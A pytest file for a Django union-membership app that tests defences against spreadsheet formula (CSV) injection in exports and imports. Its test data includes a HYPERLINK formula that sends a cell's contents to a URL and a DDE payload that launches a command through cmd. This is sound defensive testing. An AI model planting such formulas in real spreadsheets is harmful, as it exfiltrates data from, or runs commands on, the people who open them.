"""Formula injection (OWASP "CSV Injection"): every text cell an export or a marked
file writes is text that no spreadsheet runs; an export imports back unchanged; an
import warns of text that starts with ``=``."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.urls import reverse

from gonghui.care import services as care
from gonghui.common.imports.columns import get_spec
from gonghui.common.imports.engine import RowError, run_import
from gonghui.common.imports.formulas import neutral, unneutral
from gonghui.common.imports.xlsx import marked_file
from gonghui.members.models import Member
from tests import factories as f
from tests.conftest import World, login

from . import files

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://127.0.0.1/?d="&B2,"点击查看")'


def _sheet(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]


def _column(ws: Any, header: str) -> list[Any]:
    headers = [c.value for c in ws[1]]
    j = headers.index(header)
    return [row[j] for row in ws.iter_rows(min_row=2)]


def test_a_member_export_writes_formula_like_text_as_text(world: World) -> None:
    # Given a member whose name and department look like formulas, with a wage
    f.member(world.group, LINK, department="-财务科", monthly_wage=Decimal("12.50"))
    # When the chair exports the roster
    response = login(world.chair).get(reverse("imports:export", args=["members"]))
    ws = _sheet(response.content)
    names = {c.value: c for c in _column(ws, "姓名")}
    # Then the name is a text cell, prefixed so that it is never run
    cell = names["'" + LINK]
    assert cell.data_type == "s"
    row = cell.row
    dept = ws.cell(row=row, column=[c.value for c in ws[1]].index("部门") + 1)
    assert (dept.value, dept.data_type) == ("'-财务科", "s")
    # and an amount stays a number cell
    wage = ws.cell(row=row, column=[c.value for c in ws[1]].index("月工资") + 1)
    assert (wage.value, wage.data_type) == (12.5, "n")
    # and no cell of the file is a formula
    assert not [c for r in ws.iter_rows() for c in r if c.data_type == "f"]


def test_a_visit_export_writes_formula_like_text_as_text(world: World) -> None:
    care.visit_create(
        actor=None,
        member=world.member,
        date=dt.date.today(),
        reason="sick",
        form="cash",
        amount=300,
        visitors="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    response = login(world.chair).get(reverse("imports:export", args=["visits"]))
    ws = _sheet(response.content)
    (visitors,) = _column(ws, "慰问人")
    assert (visitors.value, visitors.data_type) == ("'@SUM(1+1)*cmd|' /C calc'!A0", "s")
    (amount,) = _column(ws, "金额")
    assert (amount.value, amount.data_type) == (300, "n")


def test_a_rebuilt_marked_file_writes_the_users_cells_as_text(tmp_path: Path) -> None:
    # Given a CSV (marked files of CSV are rebuilt) with a formula-like cell in error
    path = files.write(
        tmp_path / "名册.csv",
        files.csv_bytes([["姓名", "身份证号"], ["=1+2", "+8613800000000"]]),
    )
    errors = [RowError(2, "身份证号", "校验位错误", 1)]
    data = marked_file(path, file_format="csv", sheet_name="名册", errors=errors)
    ws = _sheet(data)
    assert (ws["A2"].value, ws["A2"].data_type) == ("'=1+2", "s")
    assert (ws["B2"].value, ws["B2"].data_type) == ("'+8613800000000", "s")


def test_an_export_with_formula_like_text_imports_back_unchanged(
    world: World, tmp_path: Path
) -> None:
    # Given an export of a member whose name looks like a formula
    member = f.member(world.group, LINK, id_number=f.id_number())
    response = login(world.chair).get(reverse("imports:export", args=["members"]) + "?full=1")
    path = files.write(tmp_path / "导出.xlsx", response.content)
    # When it is imported back
    result = run_import(
        spec=get_spec("members"),
        path=path,
        file_name=path.name,
        actor=None,
        default_union=world.district,
        commit=False,
    )
    # Then nothing changes (the ' the export added is taken off again)
    assert result.ok, result.error_lines()
    assert result.plan is not None
    assert (result.plan.created, result.plan.updated) == (0, 0)
    member.refresh_from_db()
    assert member.name == LINK
    # and the preview says the name looks like a formula
    assert any("以「=」开头" in w and "姓名" in w for w in result.plan.warnings)


def test_an_import_warns_of_text_that_starts_with_equals(world: World, tmp_path: Path) -> None:
    path = files.write(
        tmp_path / "名册.csv",
        files.csv_bytes([["姓名", "身份证号", "所属工会"], ["=1+2", f.id_number(), "YZGZYW"]]),
    )
    result = run_import(
        spec=get_spec("members"),
        path=path,
        file_name=path.name,
        actor=None,
        commit=True,
    )
    assert result.written
    assert result.plan is not None
    assert result.plan.warnings == [
        "第2行「姓名」以「=」开头（=1+2），像是 Excel 公式：将按文字原样导入"
        "（导出时会在前面加 ' 防止被当作公式执行），请确认这是本来的内容"
    ]
    assert Member.objects.filter(name="=1+2").exists()


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\tx", "\rx", "'=x"])
def test_neutral_and_unneutral_round_trip(text: str) -> None:
    assert neutral(text).startswith("'")
    assert unneutral(neutral(text)) == text


def test_plain_text_and_numbers_are_left_alone() -> None:
    # (a negative amount is a number: it stays a number cell)
    assert neutral("王芳") == "王芳" and neutral(-5) == -5 and neutral(None) is None
    assert unneutral("'王芳") == "'王芳"  # a ' the user typed before plain text stays
